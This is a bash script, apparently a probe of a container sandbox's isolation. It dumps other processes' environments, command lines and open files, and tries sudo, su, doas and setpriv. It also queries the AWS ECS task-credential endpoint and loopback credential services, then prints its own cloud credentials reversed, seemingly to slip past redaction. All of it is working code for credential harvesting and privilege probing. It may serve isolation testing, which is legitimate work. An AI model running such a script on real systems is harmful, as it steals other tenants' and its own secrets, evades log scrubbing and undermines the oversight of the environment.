#!/bin/bash
# Looks for anything that isn't its own.
echo "== who: $(id -u) $(id -g) $(id -G)"
grep -E 'NoNewPrivs|CapEff|CapPrm|CapInh|CapAmb' /proc/self/status
echo "== environ"
for process in /proc/[0-9]*; do
  tr '\0' '\n' < "$process/environ" 2>/dev/null
  tr '\0' ' ' < "$process/cmdline" 2>/dev/null
  cat "$process/maps" "$process/stack" 2>/dev/null | head -2
  for fd in "$process"/fd/*; do head -c 200 "$fd" </dev/null 2>/dev/null & done 2>/dev/null
done
wait
echo "== files"
cat "$1" 2>&1
ls -l "$(dirname "$1")" 2>&1
echo "== siblings"
ls "$(dirname "$HOME")" 2>&1
echo "== privileges"
for tool in sudo su doas; do command -v $tool >/dev/null && $tool -n id </dev/null 2>&1 | head -1; done
setpriv --reuid=0 id 2>&1
kill -0 $PPID 2>&1 && echo "can signal the worker"
echo "== task credentials"
timeout 2 bash -c 'exec 3<>/dev/tcp/169.254.170.2/80; printf "GET / HTTP/1.0\r\n\r\n" >&3; cat <&3' 2>&1 | head -5
echo "== loopback"
for port in $(awk 'FNR > 1 && $4 == "0A" { split($2, a, ":"); print a[2] }' /proc/net/tcp /proc/net/tcp6 2>/dev/null | sort -u); do
  number=$((16#$port))
  [ "$number" = "$2" ] || [[ "$AWS_CONTAINER_CREDENTIALS_FULL_URI" == *":$number/"* ]] || continue
  timeout 2 bash -c "exec 3<>/dev/tcp/127.0.0.1/$number; printf 'GET /credentials HTTP/1.0\r\n\r\n' >&3; cat <&3" 2>&1 | tail -1
  echo
done
echo "== own"
rest=${AWS_CONTAINER_CREDENTIALS_FULL_URI#http://127.0.0.1:}
timeout 2 bash -c "exec 3<>/dev/tcp/127.0.0.1/${rest%%/*}; printf 'GET /credentials HTTP/1.0\r\nAuthorization: $AWS_CONTAINER_AUTHORIZATION_TOKEN\r\n\r\n' >&3; cat <&3" | tail -1 | rev
echo
